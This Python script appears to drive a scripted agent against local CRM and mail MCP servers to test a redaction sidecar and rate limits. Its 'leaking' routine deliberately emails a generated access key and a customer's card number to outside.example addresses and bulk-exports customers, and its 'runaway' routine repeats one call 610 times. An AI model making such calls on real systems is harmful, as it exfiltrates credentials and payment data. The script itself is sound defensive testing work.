"""A scripted agent: an ordinary day with customers and mail, and now and then a call that leaks or runs away.

It talks to two MCP servers with the official SDK and goes on whatever it is told, as agents do. It prints one line for
each call, never a value that went in or came out.
"""

import argparse
import asyncio
import itertools
import random
import re
import signal
from collections.abc import Iterator
from textwrap import shorten
from typing import Any

from mcp import Client, MCPError
from mcp.types import CallToolResult, TextContent
from people import make_access_key, make_customers

Call = tuple[str, str, dict[str, Any]]

CUSTOMERS = make_customers(seed=7)
RUNAWAY_CALLS = 610
"""More than the starter policies let a tool be called in a minute."""
RUNAWAY_DAYS = 3
"""An agent runs away on every third day, not on the first."""
RETRY_S = 2.0
MARK = re.compile(r"\[(?:secrets|pii)\.[a-z-]+")
"""How the sidecar marks what it took out of a result."""


def ordinary(rng: random.Random) -> Iterator[Call]:
    """What most of the day looks like."""
    one = rng.choice(CUSTOMERS)
    yield "crm", "search_customers", {"text": one.city}
    yield "crm", "get_customer", {"customer_id": one.id}
    yield "mail", "list_inbox", {}
    yield "mail", "read_email", {"email_id": rng.randint(1, 3)}
    body = f"Dear {one.name}, here it is again."
    yield "mail", "send_email", {"to": one.email, "subject": "Your invoice", "body": body}
    yield "crm", "update_customer", {"customer_id": one.id, "city": one.city}
    yield "crm", "get_customer", {"customer_id": 404}


def leaking(rng: random.Random) -> Iterator[Call]:
    """What should not happen: credentials and payment data on their way out or in."""
    one = rng.choice(CUSTOMERS)
    key = f"The key you asked for is {make_access_key()}, keep it safe."
    yield "mail", "send_email", {"to": "contractor@outside.example", "subject": "Access", "body": key}
    yield "crm", "get_api_settings", {}
    card = f"Please charge {one.name}, card {one.card}."
    yield "mail", "send_email", {"to": "billing@outside.example", "subject": "Charge", "body": card}
    yield "crm", "export_customers", {"limit": 5}


def runaway(rng: random.Random) -> Iterator[Call]:
    """An agent in a loop: the same question over and over."""
    one = rng.choice(CUSTOMERS)
    yield from itertools.repeat(("crm", "get_customer", {"customer_id": one.id}), RUNAWAY_CALLS)


def outcome(result: CallToolResult) -> str:
    """What became of a call, without a value of it."""
    text = "\n".join(part.text for part in result.content if isinstance(part, TextContent))
    if result.is_error:
        return f"error: {shorten(text, 100, placeholder='…')}"
    marks = len(MARK.findall(text))
    return f"ok, {len(text)} characters" + (f", {marks} of its values taken out" if marks else "")


async def make_call(clients: dict[str, Client], call: Call) -> str:
    """Make one call; its outcome as a line."""
    server, tool, arguments = call
    try:
        said = outcome(await clients[server].call_tool(tool, arguments))
    except MCPError as error:
        said = f"error: {shorten(str(error), 100, placeholder='…')}"
    return f"agent: {server:4} {tool:16} {said}"


async def live_through(day: int, clients: dict[str, Client], pace_s: float, rng: random.Random) -> None:
    """One day: ordinary calls, leaks among them, and at the end of some a loop that only a limit stops."""
    for _ in range(4):
        for call in [*ordinary(rng), *leaking(rng)]:
            print(await make_call(clients, call), flush=True)
            await asyncio.sleep(pace_s)
    if day % RUNAWAY_DAYS:
        return
    said = [await make_call(clients, call) for call in runaway(rng)]
    failed = sum("error" in line for line in said)
    print(f"agent: crm  get_customer     {len(said)} times in a row, {failed} of them in vain", flush=True)


async def live(crm: str, mail: str, pace_s: float, days: int | None) -> None:
    """Days without end, or so many; a server that goes away is waited for."""
    rng = random.Random()
    for day in itertools.count(1) if days is None else range(1, days + 1):
        try:
            # One client greets in the older way and one in the newer, because both are out there.
            async with Client(crm, mode="legacy") as first, Client(mail) as second:
                await live_through(day, {"crm": first, "mail": second}, pace_s, rng)
        except (OSError, MCPError, ExceptionGroup) as error:
            print(f"agent: no connection ({type(error).__name__}); trying again in {RETRY_S:.0f} s", flush=True)
            await asyncio.sleep(RETRY_S)


def main() -> None:
    """Read the command line and live."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--crm", default="http://127.0.0.1:9001/mcp", help="address of the CRM")
    parser.add_argument("--mail", default="http://127.0.0.1:9002/mcp", help="address of the mail server")
    parser.add_argument("--pace", type=float, default=1.0, metavar="SECONDS", help="between two calls (default 1)")
    parser.add_argument("--days", type=int, help="stop after so many rounds")
    options = parser.parse_args()
    signal.signal(signal.SIGTERM, signal.default_int_handler)
    try:
        asyncio.run(live(options.crm, options.mail, options.pace, options.days))
    except KeyboardInterrupt:
        print("agent: stopped", flush=True)


if __name__ == "__main__":
    main()
